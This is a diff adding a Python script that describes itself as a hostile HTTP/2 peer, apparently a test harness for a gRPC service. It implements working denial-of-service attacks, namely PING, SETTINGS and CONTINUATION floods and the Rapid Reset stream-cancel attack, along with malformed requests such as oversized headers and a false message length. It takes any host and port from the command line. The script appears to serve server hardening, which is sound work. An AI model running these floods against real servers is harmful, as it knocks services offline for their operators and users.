@@ -1,0 +1,127 @@
+"""A hostile HTTP/2 peer: sends one of the known attacks and says how the connection ended.
+
+It needs the packages of `requirements.txt`.
+
+    h2_attacks.py HOST PORT ATTACK
+"""
+
+import socket
+import struct
+import sys
+
+import h2.config
+import h2.connection
+import h2.events
+import h2.settings
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+CALL = [
+    (":method", "POST"), (":scheme", "http"), (":path", "/manga.MangaService/GetManga"), (":authority", "x"),
+    ("content-type", "application/grpc"), ("te", "trailers"),
+]
+
+
+def frame(kind, flags=0, stream=0, payload=b""):
+    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload
+
+
+def flood(peer, piece):
+    """Sends a piece again and again, until the peer has had enough."""
+    peer.sendall(PREFACE + frame(4))
+    for _ in range(2000):
+        peer.sendall(piece * 100)
+    return "it took everything"
+
+
+def heads(conn):
+    return conn.encoder.encode(CALL)
+
+
+def ping(peer):
+    return flood(peer, frame(6, payload=b"12345678"))
+
+
+def settings(peer):
+    return flood(peer, frame(4))
+
+
+def continuation(peer):
+    head = heads(h2.connection.H2Connection())
+    peer.sendall(PREFACE + frame(4) + frame(1, 0, 1, head))
+    for _ in range(100_000):
+        peer.sendall(frame(9, 0, 1, b"\x00\x01a\x01b" * 100))
+    return "it took everything"
+
+
+def rapid_reset(peer):
+    conn = h2.connection.H2Connection()
+    conn.initiate_connection()
+    peer.sendall(conn.data_to_send())
+    for _ in range(200):
+        for _ in range(100):
+            stream = conn.get_next_available_stream_id()
+            conn.send_headers(stream, CALL)
+            conn.reset_stream(stream)
+        peer.sendall(conn.data_to_send())
+    return "it took everything"
+
+
+def long_head(peer):
+    conn = h2.connection.H2Connection()
+    conn.initiate_connection()
+    conn.send_headers(1, CALL + [(f"x-{number}", "y" * 1000) for number in range(40)], end_stream=True)
+    peer.sendall(conn.data_to_send())
+    return answered(peer, conn)
+
+
+def no_grpc(peer):
+    conn = h2.connection.H2Connection()
+    conn.initiate_connection()
+    conn.send_headers(1, CALL[:4] + [("content-type", "application/json")], end_stream=True)
+    peer.sendall(conn.data_to_send())
+    return answered(peer, conn)
+
+
+def bad_lengths(peer):
+    """A message that claims to be longer than four megabytes."""
+    conn = h2.connection.H2Connection()
+    conn.initiate_connection()
+    conn.send_headers(1, CALL)
+    conn.send_data(1, b"\x00" + struct.pack(">I", (4 << 20) + 1) + b"x" * 100, end_stream=True)
+    peer.sendall(conn.data_to_send())
+    return answered(peer, conn)
+
+
+def get(peer):
+    conn = h2.connection.H2Connection()
+    conn.initiate_connection()
+    conn.send_headers(1, [(":method", "GET"), (":scheme", "http"), (":path", "/"), (":authority", "x")], end_stream=True)
+    peer.sendall(conn.data_to_send())
+    return answered(peer, conn)
+
+
+def answered(peer, conn):
+    """The first answer's status, and the gRPC code if there is one."""
+    while True:
+        data = peer.recv(65536)
+        if not data:
+            return "closed"
+        for event in conn.receive_data(data):
+            if isinstance(event, h2.events.ResponseReceived):
+                head = {name.decode(): value.decode() for name, value in event.headers}
+                return f"{head[':status']} {head.get('grpc-status', '')}".strip()
+            if isinstance(event, (h2.events.StreamReset, h2.events.ConnectionTerminated)):
+                return "reset"
+        peer.sendall(conn.data_to_send())
+
+
+def main():
+    host, port, attack = sys.argv[1:]
+    with socket.create_connection((host, int(port)), timeout=30) as peer:
+        try:
+            print(globals()[attack](peer))
+        except (BrokenPipeError, ConnectionResetError):
+            print("closed")
+
+
+main()
